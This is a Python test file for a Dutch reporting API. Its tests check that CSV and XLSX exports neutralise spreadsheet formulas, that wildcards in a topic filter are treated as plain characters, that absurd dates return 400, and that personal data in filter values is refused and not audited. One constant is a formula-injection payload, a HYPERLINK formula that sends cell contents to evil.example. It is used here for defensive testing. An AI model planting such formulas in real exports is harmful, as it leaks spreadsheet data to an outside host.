"""Hostile input at the indicator endpoints: formula injection in exports, wildcards, absurd dates (issue 14)."""

import csv
import io
import uuid
import zipfile
from datetime import date

from fastapi.testclient import TestClient
from openpyxl import load_workbook
from sqlmodel import Session

from app.models import Contactmoment, ContactmomentOnderwerp
from tests.factories import make_key, make_organisatie, make_sleutelpersoon

FORMULE = '=HYPERLINK("http://evil.example/?x="&A1,"klik")'
XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"


def _organisatie_met_formule(session: Session) -> tuple[dict[str, str], str]:
    organisatie = make_organisatie(session)
    persoon = make_sleutelpersoon(session, organisatie, weergavenaam=FORMULE)
    for _ in range(3):
        record = Contactmoment(organisatie_id=organisatie.id, sleutelpersoon_id=persoon.id, datum=date(2025, 3, 1),
                               gemeentecode="GM0344", kanaal="persoonlijk", soort="individueel", inhoud_hash=uuid.uuid4().hex)
        session.add(record)
        session.flush()
        session.add(ContactmomentOnderwerp(contactmoment_id=record.id, onderwerp="geld.toeslagen"))
    session.flush()
    return make_key(session, organisatie=organisatie, scopes=("rapporteren",)), str(persoon.id)


def test_csv_neutralises_formulas_and_keeps_numbers(client: TestClient, session: Session) -> None:
    headers, _ = _organisatie_met_formule(session)
    url = "/v1/indicatoren/aantal-contactmomenten/waarden?periode=2025&groeperenOp=sleutelpersoon"
    tekst = client.get(url, headers={**headers, "Accept": "text/csv"}).content.decode("utf-8-sig")
    rows = list(csv.DictReader(io.StringIO(tekst), delimiter=";"))
    assert rows[0]["sleutelpersoon (omschrijving)"] == "'" + FORMULE
    assert rows[0]["waarde"] == "3"


def test_xlsx_writes_names_as_text_never_as_formula(client: TestClient, session: Session) -> None:
    headers, _ = _organisatie_met_formule(session)
    url = "/v1/indicatoren/aantal-contactmomenten/waarden?periode=2025&groeperenOp=sleutelpersoon"
    content = client.get(url, headers={**headers, "Accept": XLSX}).content
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        sheet_xml = archive.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet_xml
    sheet = load_workbook(io.BytesIO(content)).active
    assert FORMULE in [cell.value for row in sheet.iter_rows() for cell in row]


def test_wildcards_in_a_topic_filter_are_characters(client: TestClient, session: Session) -> None:
    headers, _ = _organisatie_met_formule(session)
    for waarde in ("%", "_", "ge%"):
        body = client.get(f"/v1/indicatoren/aantal-hulpvragen/waarden?periode=2025&onderwerp={waarde}",
                          headers=headers).json()
        assert body["rijen"][0]["waarde"] == 0, waarde
    geld = client.get("/v1/indicatoren/aantal-hulpvragen/waarden?periode=2025&onderwerp=geld", headers=headers).json()
    assert geld["rijen"][0]["waarde"] == 3


def test_absurd_dates_are_a_400_not_a_500(client: TestClient, session: Session) -> None:
    headers, _ = _organisatie_met_formule(session)
    response = client.get("/v1/indicatoren/aantal-contactmomenten/waarden?vanaf=0001-01-01&tot=9999-12-31",
                          headers=headers)
    assert response.status_code == 400
    assert response.headers["content-type"] == "application/problem+json"
    assert "1990-01-01" in response.json()["invalidParams"][0]["reason"]


def test_a_filter_value_with_personal_data_is_refused_and_never_audited(client: TestClient, session: Session) -> None:
    """Filter values of a regional read are stored in the read audit: a BSN or phone number there is refused
    before anything is stored, and the refusal names the filter, never the value."""
    from sqlalchemy import func, select

    from app.models import LeesAudit

    headers = make_key(session, gemeentecodes=["GM0344"], scopes=("rapporteren",))
    voor = session.execute(select(func.count()).select_from(LeesAudit)).scalar_one()
    for waarde in ("111222333", "0612345678"):
        response = client.get("/v1/indicatoren/aantal-contactmomenten/waarden",
                              params={"periode": "2025-03", "groeperenOp": "taal", "taal": f"ar,{waarde}"}, headers=headers)
        assert response.status_code == 400
        assert [p["name"] for p in response.json()["invalidParams"]] == ["taal"] and waarde not in response.text
    assert session.execute(select(func.count()).select_from(LeesAudit)).scalar_one() == voor
